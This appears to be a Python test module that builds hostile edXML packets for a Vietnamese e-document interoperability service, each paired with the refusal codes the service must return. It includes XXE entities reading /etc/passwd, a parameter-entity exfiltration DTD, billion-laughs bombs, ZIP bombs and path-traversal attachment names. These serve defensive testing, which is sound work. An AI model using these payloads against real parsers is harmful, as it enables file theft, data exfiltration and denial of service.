"""Hand-made hostile edXML packets: XXE, entity bombs, DTDs, sizes, encodings, attachments, ZIPs.

Each `Case` names what it tries and which outcomes are acceptable: "accepted" (the packet is
read leniently) or the interop.edxml_* codes a clear refusal may carry. XXE cases point at a
canary file and a loopback HTTP server the test watches: neither may ever be read.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date, datetime
from functools import cache

from vanthu_interop.edxml import NS, BuildOptions, EdocPacket, Organ, StatusPacket, build
from vanthu_interop.edxml.model import Business, OtherInfo, ResponseFor, Trace

HOSTED = "000.00.00.H41"  # the agency the harness hosts: packets addressed to it are imported
SENDER = "000.00.00.G22"
ACCEPTED = "accepted"
MALFORMED = "interop.edxml_malformed"
FORBIDDEN = "interop.edxml_forbidden"
TOO_LARGE = "interop.edxml_too_large"
INVALID = "interop.edxml_invalid"
ATTACHMENT = "interop.edxml_attachment_invalid"
# Any well-defined refusal of an unreadable packet.
UNREADABLE = frozenset({MALFORMED, FORBIDDEN, INVALID})
PDF = b"%PDF-1.4\n" + "Quyết định về việc thử nghiệm liên thông".encode() * 40 + b"\n%%EOF\n"


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    expect: frozenset[str]
    max_packet_bytes: int | None = None  # None: the service's default setting


def edoc(**changes: object) -> EdocPacket:
    """A plausible new document from VPCP to the hosted agency (no attachments: those are spliced in)."""
    packet = EdocPacket(
        from_=Organ(organ_id=SENDER, organ_name="Văn phòng Chính phủ", organization_in_charge="Chính phủ"),
        to=[Organ(organ_id=HOSTED, organ_name="UBND tỉnh Nghệ An")],
        document_id=f"{SENDER},2024/05/06,3805/VPCP-HC",
        code_number="3805",
        code_notation="VPCP-HC",
        promulgation_place="Hà Nội",
        promulgation_date=date(2024, 5, 6),
        type=1,
        type_detail=0,
        type_name="Công văn",
        subject="V/v thử nghiệm gửi nhận văn bản điện tử",
        content="Đề nghị các cơ quan phối hợp",
        signer_competence="KT. BỘ TRƯỞNG",
        signer_position="Phó Chủ nhiệm",
        signer_full_name="Nguyễn Văn Á",
        due_date=date(2024, 5, 20),
        other=OtherInfo(priority=1, page_amount=2, promulgation_amount=1, direction=False),
        response_for=[ResponseFor(organ_id=HOSTED, code="12/UBND", document_id="abc")],
        steering_type=1,
        to_places=["Như trên", "Lưu: VT"],
        trace=[Trace(organ_id=SENDER, timestamp=datetime(2024, 5, 6, 8, 30))],
        business=Business(doc_type=0, reason="Văn bản điện tử mới", paper=0),
    )
    for key, value in changes.items():
        setattr(packet, key, value)
    return packet


def status(code: str = "05", **changes: object) -> StatusPacket:
    packet = StatusPacket(
        from_=Organ(organ_id=SENDER, organ_name="Văn phòng Chính phủ"),
        response_for=ResponseFor(organ_id=HOSTED, code="12/UBND", document_id="doc-1"),
        status_code=code,
        description="Đang xử lý",
        timestamp=datetime(2024, 5, 7, 9, 0),
    )
    for key, value in changes.items():
        setattr(packet, key, value)
    return packet


def serialize(packet: EdocPacket | StatusPacket, *, indent: bool = True) -> bytes:
    out = io.BytesIO()
    build(packet, out, BuildOptions(indent=indent))
    return out.getvalue()


def zipped(entry: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(entry, data)
    return buffer.getvalue()


def attachment_xml(
    name: str, body: bytes | str, content_type: str = "application/zip", cid: str = "a1"
) -> bytes:
    """One AttachmentEncoded block as the VNPT library writes it; `body` is base64 text or raw bytes to encode."""
    text = body if isinstance(body, str) else base64.b64encode(body).decode()
    return (
        f"<AttachmentEncoded><Attachment><ContentId>cid:{cid}</ContentId>"
        f"<AttachmentName>{name}</AttachmentName><ContentType>{content_type}</ContentType>"
        f'<edXML:ContentTransferEncoded xmlns:edXML="{NS}">{text}</edXML:ContentTransferEncoded>'
        f"</Attachment></AttachmentEncoded>"
    ).encode()


def with_attachments(packet: bytes, block: bytes) -> bytes:
    """Splice an AttachmentEncoded block in where the builder puts it (after the envelope)."""
    at = packet.rindex(b"</edXML>")
    return packet[:at] + block + packet[at:]


def with_pdf(packet: bytes | None = None, body: bytes | str | None = None, **kwargs: str) -> bytes:
    base = packet if packet is not None else serialize(edoc())
    return with_attachments(
        base, attachment_xml("quyet-dinh.pdf", body if body is not None else zipped("x.pdf", PDF), **kwargs)
    )


def replace_value(packet: bytes, element: str, value: bytes) -> bytes:
    """Set the text of the first <edXML:element> (the builder's prefixed form)."""
    start = packet.index(f"<edXML:{element}>".encode()) + len(element) + 8
    end = packet.index(f"</edXML:{element}>".encode(), start)
    return packet[:start] + value + packet[end:]


def drop_element(packet: bytes, element: str) -> bytes:
    start = packet.index(f"<edXML:{element}>".encode())
    close = f"</edXML:{element}>".encode()
    end = packet.index(close, start) + len(close)
    return packet[:start] + packet[end:]


def insert_in_header(packet: bytes, snippet: bytes) -> bytes:
    at = packet.index(b"</edXML:MessageHeader>")
    return packet[:at] + snippet + packet[at:]


def with_prolog(packet: bytes, doctype: bytes) -> bytes:
    """Put a DOCTYPE between the XML declaration and the root."""
    end = packet.index(b"?>") + 2
    return packet[:end] + b"\n" + doctype + packet[end:]


# -- ZIP specimens -------------------------------------------------------------------------------


@cache
def zip_bomb(uncompressed: int = 64 << 20) -> bytes:
    """One entry of `uncompressed` zero bytes: ~1000:1 (the classic single-file bomb)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("bomb.pdf", "w") as sink:
        chunk = bytes(1 << 20)
        for _ in range(uncompressed >> 20):
            sink.write(chunk)
    return buffer.getvalue()


@cache
def zip_many_entries(count: int = 200_000) -> bytes:
    """A small archive whose central directory makes a reader build `count` entries (written by
    hand: zipfile takes half a minute for this many)."""
    local, central = [], []
    offset = 0
    for i in range(count):
        name = b"%x" % i
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
        local.append(header)
        offset += len(header)
    directory = b"".join(central)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(directory), offset, 0)
    return b"".join(local) + directory + end


def _patched(fmt: str, local: int, central: int, value: int, *, payload: bytes = PDF,
             method: int = zipfile.ZIP_DEFLATED) -> bytes:  # fmt: skip
    """A one-entry ZIP with the same field changed in its local header and its central record."""
    data = bytearray(zipped("x.pdf", payload, method))
    directory = data.rindex(b"PK\x01\x02")
    struct.pack_into(fmt, data, local, value)
    struct.pack_into(fmt, data, directory + central, value)
    return bytes(data)


def zip_lying_size(real: int = 16 << 20) -> bytes:
    """A single entry whose headers claim 10 bytes but which inflates to `real` bytes."""
    return _patched("<I", 22, 24, 10, payload=bytes(real))


@cache
def zip_corrupt_deflate() -> bytes:
    data = bytearray(zipped("x.pdf", PDF * 4))
    start = 30 + len(b"x.pdf")
    for i in range(start + 4, start + 60):
        data[i] ^= 0x5A
    return bytes(data)


@cache
def zip_with_method(method: int) -> bytes:
    return _patched("<H", 8, 10, method, method=zipfile.ZIP_STORED)


@cache
def zip_encrypted_flag() -> bytes:
    return _patched("<H", 6, 8, 1)


def zip_nested(depth: int = 20) -> bytes:
    data = PDF
    for level in range(depth):
        data = zipped(f"{level}.zip" if level else "x.pdf", data)
    return data


@cache
def zip_crc_wrong() -> bytes:
    return _patched("<I", 14, 16, 0xDEADBEEF)


def zip64_absurd_sizes() -> bytes:
    """A ZIP64 extra field claiming an 8 EiB entry."""
    data = bytearray(zipped("x.pdf", PDF, zipfile.ZIP_STORED))
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<II", data, central + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    return bytes(data)


def deflate_raw_bomb() -> bytes:
    """Not a ZIP: a zlib stream of zeros, labelled as a PDF (must be stored as it is)."""
    return zlib.compress(bytes(32 << 20), 9)


# -- the corpus ----------------------------------------------------------------------------------


def _b64_lines(data: bytes, width: int, newline: str = "\n") -> str:
    text = base64.b64encode(data).decode()
    return newline.join(text[i : i + width] for i in range(0, len(text), width))


def corpus(canary_url: str, server_url: str) -> list[Case]:
    """`canary_url`: file:// URL of a file that must never be read; `server_url`: a loopback server
    that must never be asked for anything."""
    base = serialize(edoc())
    pdf_zip = zipped("5c7082fe.pdf", PDF)
    cases: list[Case] = []

    def add(name: str, data: bytes, *expect: str, max_packet_bytes: int | None = None) -> None:
        cases.append(Case(name, data, frozenset(expect), max_packet_bytes))

    # XXE, DTDs and entities: refused before anything is resolved.
    xxe = f'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "{canary_url}">]>'.encode()
    add("xxe_file_entity", with_prolog(replace_value(base, "Subject", b"&xxe;"), xxe), FORBIDDEN)
    add("xxe_file_entity_etc_passwd", with_prolog(replace_value(base, "Subject", b"&xxe;"),
        b'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), FORBIDDEN)  # fmt: skip
    add("xxe_http_entity", with_prolog(replace_value(base, "Subject", b"&xxe;"),
        f'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "{server_url}/entity">]>'.encode()), FORBIDDEN)  # fmt: skip
    add("xxe_in_attribute", with_prolog(base.replace(b"<edXML:Subject>", b'<edXML:Subject a="&xxe;">'),
        f'<!DOCTYPE edXML [<!ENTITY xxe "{"x" * 64}">]>'.encode()), FORBIDDEN)  # fmt: skip
    add(
        "external_dtd_system",
        with_prolog(base, f'<!DOCTYPE edXML SYSTEM "{server_url}/edxml.dtd">'.encode()),
        FORBIDDEN,
    )
    add("external_dtd_public", with_prolog(base,
        f'<!DOCTYPE edXML PUBLIC "-//VANTHU//EVIL//EN" "{server_url}/public.dtd">'.encode()), FORBIDDEN)  # fmt: skip
    add("external_dtd_file", with_prolog(base, f'<!DOCTYPE edXML SYSTEM "{canary_url}">'.encode()), FORBIDDEN)
    add("parameter_entity_http", with_prolog(base,
        f'<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "{server_url}/param.dtd"> %remote;]>'.encode()), FORBIDDEN)  # fmt: skip
    add("parameter_entity_exfiltration", with_prolog(base, (
        f'<!DOCTYPE edXML [<!ENTITY % file SYSTEM "{canary_url}">'
        f'<!ENTITY % dtd SYSTEM "{server_url}/exfil.dtd"> %dtd; %send;]>').encode()), FORBIDDEN)  # fmt: skip
    lol = "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10)
    )
    add(
        "billion_laughs",
        with_prolog(replace_value(base, "Subject", b"&lol9;"), f"<!DOCTYPE edXML [{lol}]>".encode()),
        FORBIDDEN,
    )
    add("quadratic_blowup", with_prolog(replace_value(base, "Subject", b"&big;" * 20_000),
        f'<!DOCTYPE edXML [<!ENTITY big "{"A" * 50_000}">]>'.encode()), FORBIDDEN)  # fmt: skip
    add("doctype_without_subset", with_prolog(base, b"<!DOCTYPE edXML>"), FORBIDDEN)
    add("undeclared_entity", replace_value(base, "Subject", b"&xxe;"), MALFORMED, FORBIDDEN)
    add(
        "undeclared_entity_in_attribute",
        base.replace(b"<edXML:Subject>", b'<edXML:Subject a="&xxe;">'),
        MALFORMED,
        FORBIDDEN,
    )
    utf7_doctype = (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE edXML +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-'
        + canary_url.encode()
        + b"+ACI-+AD4-+AF0-+AD4-"
        + base[base.index(b"?>") + 2 :]
    )
    add("utf7_hidden_doctype", utf7_doctype, FORBIDDEN, MALFORMED)
    xinclude = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary_url}" parse="text"/>'.encode()
    )
    add("xinclude_file", replace_value(base, "Subject", b"Tr\xc3\xadch y\xe1\xba\xbfu " + xinclude), ACCEPTED)
    add("xinclude_http", insert_in_header(base,
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{server_url}/xinclude"/>'.encode()), ACCEPTED)  # fmt: skip
    add("schema_location_http", base.replace(b"<edXML xmlns=",
        f'<edXML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{NS} {server_url}/edxml.xsd" xmlns='.encode(), 1), ACCEPTED)  # fmt: skip
    add(
        "stylesheet_pi_http",
        with_prolog(base, f'<?xml-stylesheet type="text/xsl" href="{server_url}/evil.xsl"?>'.encode()),
        ACCEPTED,
    )

    # Sizes and shapes.
    add(
        "deep_nesting_header",
        insert_in_header(base, b"<edXML:X>" * 5000 + b"</edXML:X>" * 5000),
        TOO_LARGE,
        MALFORMED,
    )
    signature = b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#">'
    add("deep_nesting_in_signature", insert_in_header(base, signature + b"<a>" * 5000 + b"</a>" * 5000 + b"</Signature>"),
        TOO_LARGE, MALFORMED)  # fmt: skip
    add(
        "many_elements_in_signature",
        insert_in_header(base, signature + b"<a/>" * 2_000_000 + b"</Signature>"),
        TOO_LARGE,
    )
    add("many_to_elements", insert_in_header(base, b"<edXML:To><edXML:OrganId>x</edXML:OrganId></edXML:To>" * 120_000),
        TOO_LARGE)  # fmt: skip
    add("huge_subject", replace_value(base, "Subject", "Đ".encode() * (3 << 20)), TOO_LARGE)
    add("huge_header_total", insert_in_header(base, b"".join(
        b"<edXML:Content>" + b"x" * (900 << 10) + b"</edXML:Content>" for _ in range(12))), TOO_LARGE)  # fmt: skip
    add("huge_attribute", base.replace(b"<edXML:Subject>", b'<edXML:Subject a="' + b"x" * (12 << 20) + b'">'),
        MALFORMED, ACCEPTED)  # fmt: skip
    add("many_attributes", base.replace(b"<edXML:Subject>",
        b"<edXML:Subject " + b" ".join(b"a%x='1'" % i for i in range(100_000)) + b">"), ACCEPTED, MALFORMED)  # fmt: skip
    add("many_namespace_declarations", base.replace(b"<edXML:Subject>",
        b"<edXML:Subject " + b" ".join(b"xmlns:n%x='urn:%x'" % (i, i) for i in range(30_000)) + b">"),
        ACCEPTED, MALFORMED)  # fmt: skip
    add(
        "huge_element_name",
        insert_in_header(base, b"<" + b"N" * (2 << 20) + b"/>"),
        MALFORMED,
        TOO_LARGE,
        ACCEPTED,
    )
    add(
        "many_comments_and_pis",
        insert_in_header(base, b"<!-- c -->" * 200_000 + b"<?p i?>" * 100_000),
        ACCEPTED,
        TOO_LARGE,
    )
    add("packet_over_limit", with_pdf(body=bytes(3 << 20)), TOO_LARGE, max_packet_bytes=2 << 20)
    add("many_attachments", with_attachments(base, b"<AttachmentEncoded>" + b"".join(
        b"<Attachment><AttachmentName>a.txt</AttachmentName><edXML:ContentTransferEncoded xmlns:edXML='"
        + NS.encode() + b"'>QQ==</edXML:ContentTransferEncoded></Attachment>" for _ in range(1100)) + b"</AttachmentEncoded>"),
        TOO_LARGE)  # fmt: skip

    # Not XML, broken XML.
    add("empty", b"", MALFORMED)
    add("whitespace_only", b" \n\t " * 100, MALFORMED)
    add("declaration_only", b'<?xml version="1.0" encoding="UTF-8"?>', MALFORMED)
    add("a_pdf", PDF, MALFORMED)
    add("json", b'{"edXML": {"MessageHeader": {}}}', MALFORMED)
    add("html", b"<!DOCTYPE html><html><body>edXML</body></html>", FORBIDDEN, MALFORMED)
    add("nul_bytes", b"\x00" * 4096, MALFORMED)
    for fraction in (0.01, 0.3, 0.5, 0.9, 0.999):
        add(f"truncated_{fraction}", with_pdf()[: int(len(with_pdf()) * fraction)], MALFORMED)
    add(
        "truncated_in_base64",
        with_pdf()[: with_pdf().index(b"</edXML:ContentTransferEncoded>") - 7],
        MALFORMED,
        ATTACHMENT,
    )
    add("two_roots", base + base[base.index(b"<edXML ") :], MALFORMED)
    add("unclosed_cdata", replace_value(base, "Subject", b"<![CDATA[never closed"), MALFORMED)
    add("char_ref_nul", replace_value(base, "Subject", b"&#0;"), MALFORMED)
    add("char_ref_surrogate", replace_value(base, "Subject", b"&#xD800;"), MALFORMED)
    add("char_ref_out_of_range", replace_value(base, "Subject", b"&#x110000;"), MALFORMED)
    add("raw_control_character", replace_value(base, "Subject", b"a\x01b\x1b"), MALFORMED)
    add("invalid_utf8", replace_value(base, "Subject", b"\xff\xfe\xc3("), MALFORMED)
    add("overlong_utf8_slash", replace_value(base, "Subject", b"\xc0\xaf"), MALFORMED)

    # Encodings.
    add("bom_utf8", b"\xef\xbb\xbf" + base, ACCEPTED)
    add("bom_twice", b"\xef\xbb\xbf\xef\xbb\xbf" + base, MALFORMED)
    add("bom_then_space", b"\xef\xbb\xbf  " + base, MALFORMED)
    add(
        "declared_utf16_bytes_utf8",
        base.replace(b'encoding="UTF-8"', b'encoding="UTF-16"'),
        MALFORMED,
        ACCEPTED,
    )
    add("declared_latin1_bytes_utf8", base.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), ACCEPTED)
    add(
        "declared_unknown_encoding", base.replace(b'encoding="UTF-8"', b'encoding="x-vanthu-nope"'), MALFORMED
    )
    add("declared_ebcdic", base.replace(b'encoding="UTF-8"', b'encoding="IBM037"'), MALFORMED, ACCEPTED)
    text = base.decode()
    add("utf16le_with_bom", text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), ACCEPTED)
    add(
        "utf16be_without_bom",
        text.replace('encoding="UTF-8"', 'encoding="UTF-16BE"').encode("utf-16-be"),
        ACCEPTED,
        MALFORMED,
    )
    add("utf16_bom_declared_utf8", b"\xff\xfe" + text.encode("utf-16-le"), ACCEPTED, MALFORMED)
    add("utf32", text.replace('encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32"), ACCEPTED, MALFORMED)
    add("windows_1258", text.replace('encoding="UTF-8"', 'encoding="windows-1258"').encode("cp1258", "replace"),
        ACCEPTED, MALFORMED)  # fmt: skip
    add(
        "no_declaration_latin1_bytes",
        text[text.index("?>") + 2 :].encode("latin-1", "replace"),
        MALFORMED,
        ACCEPTED,
    )

    # Missing or wrong parts.
    add(
        "root_not_edxml",
        base.replace(b"<edXML xmlns", b"<evil xmlns", 1).replace(b"</edXML>", b"</evil>"),
        INVALID,
    )
    add("wrong_namespace_everywhere", base.replace(NS.encode(), b"urn:not-qcvn"), ACCEPTED, INVALID)
    add(
        "children_in_foreign_namespace",
        base.replace(f'xmlns:edXML="{NS}"'.encode(), b'xmlns:edXML="urn:other"'),
        INVALID,
    )
    add("no_message_header", base.replace(b"MessageHeader>", b"MessageHeadr>"), INVALID)
    add("no_from", drop_element(base, "From"), INVALID)
    add("no_to", drop_element(base, "To"), INVALID)
    add("no_document_id", drop_element(base, "DocumentId"), INVALID)
    add(
        "empty_from_organ_id",
        base.replace(f"<edXML:OrganId>{SENDER}</edXML:OrganId>".encode(), b"<edXML:OrganId/>", 1),
        INVALID,
    )
    add("status_without_from", drop_element(serialize(status()), "From"), INVALID)

    # Values no one should send.
    for element, value in (
        ("Priority", b"1e999"),
        ("Priority", b"9" * 5000),
        ("Priority", b"NaN"),
        ("Priority", b"-7"),
        ("PageAmount", b"-1e308"),
        ("PromulgationAmount", b"\xd9\xa3"),  # Arabic-Indic three
        ("SteeringType", b"99999999999999999999999"),
        ("PromulgationDate", b"9999/99/99"),
        ("PromulgationDate", b"0000/00/00"),
        ("DueDate", b"2024/02/30"),
        ("Timestamp", b"2024/05/06 25:61:61.999999999+99:99"),
        ("BussinessDocType", b"7"),
        ("BussinessDocType", b"-1"),
        ("Direction", b"perhaps"),
        ("Subject", "\u202e".encode() + "Trích yếu đảo chiều".encode()),
        ("OrganName", "Ủy ban".encode() * 4000),
        ("CodeNumber", b"1" * 5000),
        ("DocumentId", b"D" * 100_000),
        ("OrganId", b"O" * 10_000),
    ):
        add(f"value_{element}_{value[:12]!r}", replace_value(base, element, value), ACCEPTED, INVALID)
    for code in ("\u00b2", "\u0665", "999", "-1", "0x05", "5" * 5000, ""):
        add(f"status_code_{code[:8]!r}", serialize(status(code)), ACCEPTED, INVALID)
    add("status_13_huge_ids", serialize(status("13", from_=Organ(organ_id="Z" * 5000), response_for=ResponseFor(
        organ_id=HOSTED, document_id="Q" * 50_000))), ACCEPTED, INVALID)  # fmt: skip

    # Attachments: base64.
    add("base64_invalid_characters", with_pdf(body="!!!!****" * 100), ATTACHMENT)
    add("base64_non_ascii", with_pdf(body="QUJD" + "Đ" * 64), ATTACHMENT)
    add("base64_padding_in_middle", with_pdf(body="QQ==QUJD" * 50), ATTACHMENT, ACCEPTED)
    add(
        "base64_one_char_left_over",
        with_pdf(body=base64.b64encode(pdf_zip).decode().rstrip("=") + "QUJDR"),
        ATTACHMENT,
    )
    add("base64_no_padding", with_pdf(body=base64.b64encode(PDF + b"x").decode().rstrip("=")), ACCEPTED)
    add(
        "base64_whitespace_everywhere",
        with_pdf(body=" \r\n\t".join(base64.b64encode(pdf_zip).decode())),
        ACCEPTED,
    )
    add("base64_wrapped_crlf", with_pdf(body=_b64_lines(pdf_zip, 76, "\r\n")), ACCEPTED)
    add("base64_as_character_references", with_pdf(body="".join(f"&#{ord(c)};" for c in base64.b64encode(pdf_zip).decode())),
        ACCEPTED)  # fmt: skip
    add("base64_in_cdata", with_pdf(body="<![CDATA[" + base64.b64encode(pdf_zip).decode() + "]]>"), ACCEPTED)
    add("base64_empty", with_pdf(body=""), ACCEPTED)
    add(
        "base64_urlsafe_alphabet",
        with_pdf(body=base64.urlsafe_b64encode(bytes(range(256)) * 8).decode()),
        ATTACHMENT,
    )
    add("base64_huge_over_limit", with_pdf(body=bytes(12 << 20)), TOO_LARGE, max_packet_bytes=8 << 20)
    add(
        "base64_nested_elements_inside", with_pdf(body="QUJD<b>RUZH</b>SUpL"), ACCEPTED, ATTACHMENT, MALFORMED
    )

    # Attachments: ZIPs.
    add("zip_bomb_single_entry", with_pdf(body=zip_bomb()), TOO_LARGE, max_packet_bytes=8 << 20)
    add("zip_many_entries", with_pdf(body=zip_many_entries()), ACCEPTED, ATTACHMENT, TOO_LARGE)
    add("zip_lying_size", with_pdf(body=zip_lying_size()), TOO_LARGE, ATTACHMENT, max_packet_bytes=4 << 20)
    add("zip_corrupt_deflate", with_pdf(body=zip_corrupt_deflate()), ATTACHMENT)
    add("zip_unsupported_method", with_pdf(body=zip_with_method(99)), ATTACHMENT, ACCEPTED)
    add("zip_lzma_method_garbage", with_pdf(body=zip_with_method(14)), ATTACHMENT, ACCEPTED)
    add("zip_encrypted_flag", with_pdf(body=zip_encrypted_flag()), ACCEPTED)
    add("zip_crc_wrong", with_pdf(body=zip_crc_wrong()), ATTACHMENT)
    add("zip_nested_20_levels", with_pdf(body=zip_nested()), ACCEPTED)
    add("zip_truncated", with_pdf(body=pdf_zip[: len(pdf_zip) // 2]), ACCEPTED)
    add("zip_only_magic", with_pdf(body=b"PK\x03\x04"), ACCEPTED)
    add("zip64_absurd_sizes", with_pdf(body=zip64_absurd_sizes()), ACCEPTED, ATTACHMENT, TOO_LARGE)
    add("zip_entry_path_traversal", with_pdf(body=zipped("../../../../tmp/vanthu-evil.pdf", PDF)), ACCEPTED)
    add("deflate_stream_not_zip", with_pdf(body=deflate_raw_bomb()), ACCEPTED)
    add(
        "attachment_name_traversal",
        with_attachments(base, attachment_xml("../../../etc/cron.d/x", pdf_zip)),
        ACCEPTED,
    )
    add(
        "attachment_content_type_huge",
        with_attachments(base, attachment_xml("a.pdf", pdf_zip, "x/" + "y" * 20_000)),
        ACCEPTED,
    )
    assert len({c.name for c in cases}) == len(cases), "case names must be unique"
    return cases
